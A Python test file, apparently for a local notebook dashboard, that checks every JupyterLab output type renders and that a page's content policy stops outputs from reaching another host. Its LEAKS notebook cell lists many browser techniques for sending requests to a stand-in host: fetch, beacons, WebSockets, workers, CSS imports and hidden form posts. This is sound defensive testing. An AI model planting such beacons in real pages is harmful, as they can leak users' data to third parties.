"""What a médiateur's cell shows in JupyterLab shows in a dashboard, and nothing of it leaves the laptop."""

import base64
import os
import socket
import subprocess
import sys
import threading

import nbformat
import pytest

from cafe import until
from ports import mine
from waiting import WAIT_MS, WAIT_S

VEGA = "{'width': 9, 'height': 9, 'marks': []}"
VEGA_LITE = "{'$schema': 'https://vega.github.io/schema/vega-lite/v6.json', 'data': {'values': [{'a': 'x', 'b': 3}]}, 'mark': 'bar', 'encoding': {'x': {'field': 'a'}}}"
SPECS = {
    **dict.fromkeys(("vega.v5", "vega.v6"), VEGA),
    **dict.fromkeys(("vegalite.v3", "vegalite.v4", "vegalite.v5", "vegalite.v6"), VEGA_LITE),
}
"""Vega as JupyterLab and Altair of several years write it."""

UNSHOWN = ("application/vnd.inconnu+json", "application/geo+json", "text/vnd.mermaid", "image/tiff")
"""What nothing on this laptop draws: a sentence stands there, above what it says of itself."""

OUTPUTS = {
    "plotly as the last line": ("import plotly.express as px\npx.bar(x=['a', 'b'], y=[1, 2])", ".js-plotly-plot .bars path"),
    "plotly by show()": ("import plotly.graph_objects as go\ngo.Figure(go.Scatter(y=[1, 3, 2])).show()", ".js-plotly-plot .scatterlayer path"),
    "plotly as a widget": ("import plotly.graph_objects as go\ngo.FigureWidget(go.Pie(values=[1, 2]))", ".js-plotly-plot .pielayer path"),
    "plotly with a formula": ("import plotly.graph_objects as go\ngo.Figure(go.Bar(y=[1]), layout={'title': {'text': 'Barre'}})", ".js-plotly-plot .gtitle"),
    "plotly as HTML": ("import plotly.express as px\nfrom IPython.display import HTML\nHTML(px.pie(values=[1, 2]).to_html(include_plotlyjs=True, full_html=False))", ".js-plotly-plot .pielayer path"),
    "a table": ("import pandas\npandas.DataFrame({'ville': ['Nantes'], 'voix': [12]})", "table.dataframe td"),
    "a styled table": ("import pandas\npandas.DataFrame({'voix': [1, 2]}).style.highlight_max().set_caption('Voix')", "table caption"),
    "a picture": ("import base64\nfrom IPython.display import Image\nImage(data=base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='))", "img[src^='data:image/png']"),
    "SVG": ("from IPython.display import SVG\nSVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"40\"><circle r=\"20\"/></svg>')", "svg circle, img[src^='data:image/svg']"),
    "Markdown": ("from IPython.display import Markdown\nMarkdown('Un **mot**')", "strong"),
    "a formula": ("from IPython.display import Latex\nLatex('$\\\\frac{a}{b}$')", "mjx-container"),
    "a formula in Markdown": ("from IPython.display import Markdown\nMarkdown('Soit $x^2$.')", "mjx-container"),
    "HTML": ("from IPython.display import HTML\nHTML('<mark>vu</mark>')", "mark"),
    "a script in HTML": ("from IPython.display import HTML\nHTML('<i id=s></i><script>document.getElementById(\"s\").textContent = \"fait\"</script>')", "i:text-is('fait')"),
    "JSON": ("from IPython.display import JSON\nJSON({'cle': ['valeur']})", ".jp-RenderedJSON"),
    **{f"vega {mime}": (f"from IPython.display import display\ndisplay({{'application/vnd.{mime}+json': {spec}, 'text/plain': 'alt.Chart(...)'}}, raw=True)", ".vega-embed canvas, .vega-embed svg") for mime, spec in SPECS.items()},
    "a PDF": ("from IPython.display import display\ndisplay({'application/pdf': 'JVBERi0xLjQ=', 'text/plain': '<pdf>'}, raw=True)", "iframe.cc-document + a[download]"),
    "a picture beside": ("from IPython.display import HTML\nHTML('<img id=\"beside\" src=\"images/vue%20d%E2%80%99ici.png\">')", "#beside"),
    "a film beside": ("from IPython.display import Video\nVideo('film.webm')", "video[src='film.webm']"),
    "a page beside": ("from IPython.display import IFrame\nIFrame('page.html', 300, 100)", "iframe[src='page.html']"),
    "nothing": ("from IPython.display import display\ndisplay({}, raw=True)", "div"),
    "a widget": ("import ipywidgets\nipywidgets.IntSlider(description='Combien')", ".widget-slider, .jupyter-widget-slider"),
    "outputs in a widget": ("import ipywidgets, plotly.express as px\nplace = ipywidgets.Output()\nwith place:\n    px.bar(y=[1, 2]).show()\n    print('dessous')\nplace", ".jp-OutputArea .js-plotly-plot .bars path"),
    "a line of text": ("print('bonjour')", "pre:has-text('bonjour')"),
    **{f"nothing draws {mime}": (f"from IPython.display import display\ndisplay({{'{mime}': '', 'text/plain': 'un objet'}}, raw=True)", f".cc-unshown:has-text('{mime}') + pre:has-text('un objet')") for mime in UNSHOWN},
    "alone": ("from IPython.display import display\ndisplay({'text/csv': 'a,b'}, raw=True)", ".cc-unshown:has-text('text/csv')"),
    "in a widget": ("import ipywidgets\nfrom IPython.display import display\nplace = ipywidgets.Output()\nwith place:\n    display({'application/vnd.inconnu+json': {}}, raw=True)\nplace", ".jp-OutputArea .cc-unshown:has-text('application/vnd.inconnu+json')"),
    "a picture before what nothing draws": ("from IPython.display import display\ndisplay({'application/vnd.inconnu+json': {}, 'text/html': '<b>secours</b>'}, raw=True)", "b:text-is('secours')"),
}  # fmt: skip

PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
LEAKS = """
from IPython.display import HTML
HTML('''
<link rel="stylesheet" href="{there}/style.css"><link rel="prefetch" href="{there}/prefetch">
<link rel="preload" as="script" href="{there}/preload"><link rel="modulepreload" href="{there}/module">
<style>@import url({there}/import.css); @font-face {{ font-family: f; src: url({there}/font.woff2) }}
  .leak {{ font-family: f; background: url({there}/background.png) }}</style>
<p class="leak">texte</p><img src="{there}/image.png"><img srcset="{there}/set.png 1x">
<video src="{there}/video.mp4"></video><audio src="{there}/audio.mp3"></audio><input type="image" src="{there}/input.png">
<iframe src="{there}/frame"></iframe><object data="{there}/object"></object><embed src="{there}/embed">
<svg><image href="{there}/svg.png" width="9" height="9"></image><use href="{there}/use.svg#a"></use></svg>
<iframe src="leak.html"></iframe><iframe srcdoc="<img src='{there}/inner.png'>"></iframe>
<iframe name="target"></iframe><form id="form" action="{there}/form" method="post" target="target"><input name="a" value="1"></form>
<script src="{there}/script.js"></script>
<script>
  const there = "{there}";
  const quietly = (act) => {{ try {{ const made = act(); if (made && made.catch) made.catch(() => 0); }} catch {{}} }};
  quietly(() => fetch(there + "/fetch", {{mode: "no-cors"}}));
  quietly(() => navigator.sendBeacon(there + "/beacon", "x"));
  quietly(() => {{ const asked = new XMLHttpRequest(); asked.open("GET", there + "/xhr"); asked.send(); }});
  quietly(() => new WebSocket(there.replace("http", "ws") + "/socket"));
  quietly(() => new EventSource(there + "/events"));
  quietly(() => new Worker(there + "/worker.js"));
  quietly(() => new Worker(URL.createObjectURL(new Blob(["importScripts('" + there + "/inside.js')"]))));
  quietly(() => import(there + "/module.js"));
  quietly(() => {{ new Image().src = there + "/late.png"; }});
  quietly(() => document.getElementById("form").submit());
  document.body.dataset.leaked = "tried";
</script>
''')
"""


class Elsewhere:
    """Another host: it counts who knocks."""

    def __init__(self):
        self.knocks = []
        self._listening = socket.create_server(("127.0.0.2", 0))
        self.address = f"http://127.0.0.2:{self._listening.getsockname()[1]}"
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self):
        while True:
            caller, _ = self._listening.accept()
            with caller:
                caller.settimeout(1)
                try:
                    self.knocks.append(caller.recv(200))
                except OSError:
                    self.knocks.append(b"")


def write(path, title, *cells):
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    code = [nbformat.v4.new_code_cell(cell) for cell in cells]
    notebook.cells = [nbformat.v4.new_markdown_cell(f"# {title}"), *code]
    nbformat.write(notebook, path)


@pytest.fixture(scope="module")
def elsewhere():
    return Elsewhere()


@pytest.fixture(scope="module")
def base(tmp_path_factory, elsewhere):
    """The address of a server on two notebooks: one of every output, one that would tell another host."""
    folder = tmp_path_factory.mktemp("carnets")
    (folder / "images").mkdir()
    (folder / "images" / "vue d’ici.png").write_bytes(PICTURE)
    (folder / "film.webm").write_bytes(b"\x1aE\xdf\xa3")
    (folder / "page.html").write_text("<b>ici</b>")
    (folder / "leak.html").write_text(f"<img src='{elsewhere.address}/framed.png'>")
    title = "Tout\n\n![vue](images/vue%20d’ici.png)"
    write(folder / "10_tout.ipynb", title, *(cell for cell, _ in OUTPUTS.values()))
    write(folder / "11_dehors.ipynb", "Dehors", LEAKS.format(there=elsewhere.address))
    environment = {
        **os.environ,
        "CAFE_CITOYEN_DATA": str(tmp_path_factory.mktemp("seances")),
        "CAFE_CITOYEN_TOKEN": "jeton",
    }
    command = [sys.executable, "-m", "cafe_citoyen.console.server", "--port", str(mine(18950))]
    process = subprocess.Popen(
        [*command, "--notebooks", str(folder)], env=environment, stdout=subprocess.PIPE, text=True
    )
    try:
        yield process.stdout.readline().split()[1]
    finally:
        process.terminate()
        process.wait(WAIT_S)


def opened(open_page, base, name):
    page = open_page(1280, 900)
    page.set_default_timeout(WAIT_MS)
    page.context.request.get(base, max_redirects=0)
    page.goto(f"{base.split('/?')[0]}/voila/render/{name}.ipynb")
    page.wait_for_selector("#cc-way-home")
    return page


def test_every_output_of_jupyterlab_shows_or_says_why_not(base, open_page):
    page = opened(open_page, base, "10_tout")
    missing = []
    for place, (name, (_, shown)) in enumerate(OUTPUTS.items(), start=2):
        cell = page.locator(f"[cell-index='{place}']")
        try:
            cell.locator(shown).first.wait_for(state="attached", timeout=WAIT_MS)
        except Exception:
            missing.append((name, cell.inner_html()[:300]))
    if os.environ.get("CAFE_CITOYEN_PICTURE"):
        page.screenshot(path=os.environ["CAFE_CITOYEN_PICTURE"], full_page=True)
    assert missing == []
    assert page.locator(".cc-unshown:visible").count() == len(UNSHOWN) + 2
    assert page.locator(".cc-unshown, pre:has-text('alt.Chart')").count() == len(UNSHOWN) + 2
    assert page.locator("text=Javascript Error").count() == 0
    for picture in ("[alt=vue]", "#beside"):
        shown = page.locator(picture)
        until(page, lambda shown=shown: shown.evaluate("(one) => one.naturalWidth") == 1)
    assert page.frame_locator("iframe[src='page.html']").locator("b").inner_text() == "ici"
    assert page.locator("#cc-way-home a").get_attribute("href") == "./00_accueil.ipynb"
    page.locator("#cc-way-home a").click(trial=True)  # no output covers it
    assert page.locator("#cc-kept").is_hidden()


def test_nothing_of_an_output_reaches_another_host_and_the_page_says_so(base, chromium, elsewhere):
    context = chromium.new_context(locale="fr-FR")
    page = opened(lambda *_: context.new_page(), base, "11_dehors")
    page.wait_for_selector("body[data-leaked]")
    page.wait_for_selector("#cc-kept:visible")
    assert "127.0.0.2" in page.inner_text("#cc-kept")
    page.wait_for_load_state("networkidle")
    context.close()
    # For a frame that the policy refuses, Chromium opens a connection ahead, and sends nothing by it.
    assert [said for said in elsewhere.knocks if said] == []
